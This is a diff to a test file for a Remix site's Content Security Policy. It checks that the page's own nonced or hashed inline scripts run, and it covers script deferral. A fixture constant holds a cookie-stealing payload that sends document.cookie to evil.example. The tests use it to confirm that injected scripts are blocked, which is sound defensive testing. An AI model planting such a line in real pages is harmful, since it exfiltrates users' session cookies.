@@ -1,23 +1,25 @@
 /** A page's own scripts are named to the browser, by nonce or by hash; a script that got in otherwise is not. */
 import { createHash } from 'node:crypto';
 import { describe, expect, test } from 'vitest';
-import { holdScriptsBack, trustByHash } from './inline-scripts.server';
+import { DEFERRED_TYPE, deferScripts, trustByHash } from './inline-scripts.server';
 import { COLOUR_MODE, LATE_SCRIPTS } from './late-scripts';
 import { contentSecurityPolicy, sha256 } from './policy.server';
 
 const NONCE = 'q83vASNFZ4mrze8BI0VniQ==';
 const MODULE = 'import * as route0 from "/assets/root.js";import("/assets/entry.js");';
+const DATA = 'window.__remixContext.streamController.enqueue("data");';
 const INJECTED = 'fetch("https://evil.example/?" + document.cookie)';
 
 /** As Remix renders it. */
 const page = [
-  '<html><head><link rel="modulepreload" href="/assets/root.js"/>',
-  `<script nonce="${NONCE}">${COLOUR_MODE}</script>`,
+  `<html><head><script nonce="${NONCE}">${COLOUR_MODE}</script>`,
   '<script type="application/ld+json">{"@type":"NGO"}</script></head><body>',
   `<script>${INJECTED}</script><script nonce="guessed">${INJECTED}</script>`,
+  '<link rel="modulepreload" href="/assets/root.js"/><link rel="modulepreload" href="/assets/home.js"/>',
   `<script nonce="${NONCE}">window.__remixContext = {};</script>`,
   `<script nonce="${NONCE}" type="module" async="">${MODULE}</script>`,
   `<script nonce="${NONCE}">${LATE_SCRIPTS}</script></body></html>`,
+  `<!--$--><script nonce="${NONCE}">${DATA}</script><!--$--><!--/$--><!--/$-->`,
 ].join('');
 
 /** What a browser does with `script-src`: of each inline script, whether it runs. */
@@ -44,13 +46,13 @@ describe.each([
 
   test('every script of the page runs, and no injected one', () => {
     const scripts = runs(html, policy);
-    expect(scripts).toHaveLength(6);
+    expect(scripts).toHaveLength(7);
     for (const { text, allowed } of scripts) expect(allowed, text).toBe(text !== INJECTED);
   });
 
   test('the late module runs as its own text', () => {
-    // It is taken from the held-back script, so it has that one's nonce or hash.
-    expect(runs(holdScriptsBack(html), policy).find(({ text }) => text === MODULE)?.allowed).toBe(
+    // late-scripts.ts copies the text of the inert script, which has the nonce or the hash.
+    expect(runs(deferScripts(html), policy).find(({ text }) => text === MODULE)?.allowed).toBe(
       true,
     );
   });
@@ -62,11 +64,30 @@ test('a kept page has no trace of the nonce that rendered it', () => {
   expect(html).toContain('nonce="guessed"');
 });
 
-test('holding back changes attributes only: no element comes or goes', () => {
-  const held = holdScriptsBack(page);
-  expect(held.match(/<\w+/g)).toEqual(page.match(/<\w+/g));
-  expect(held).not.toContain('type="module"');
-  expect(held).not.toContain('<link rel="modulepreload"');
+describe('deferred scripts', () => {
+  const deferred = deferScripts(page);
+
+  test('the module script is a data block that lists its preloads', () => {
+    expect(deferred).not.toContain('type="module"');
+    expect(deferred).not.toContain('<link');
+    expect(deferred).not.toContain('async');
+    expect(deferred).toContain(
+      `<script nonce="${NONCE}" ${DEFERRED_TYPE} data-preload="/assets/root.js /assets/home.js">${MODULE}</script>`,
+    );
+  });
+
+  test('the page ends with </html>, and keeps the order of its scripts', () => {
+    expect(deferred).toMatch(/<\/script><\/body><\/html>$/);
+    expect(deferred).not.toContain('<!--');
+    const texts = (html: string) =>
+      [...html.matchAll(/<script[^>]*>([\s\S]*?)<\/script>/g)].map(([, text]) => text);
+    expect(texts(deferred)).toEqual(texts(page));
+  });
+
+  test('a page without scripts loses only what React streams after </html>', () => {
+    const light = '<html><body><p>light</p></body></html>';
+    expect(deferScripts(`${light}<!--$--><!--/$-->`)).toBe(light);
+  });
 });
 
 test('the small scripts cannot end their own element', () => {
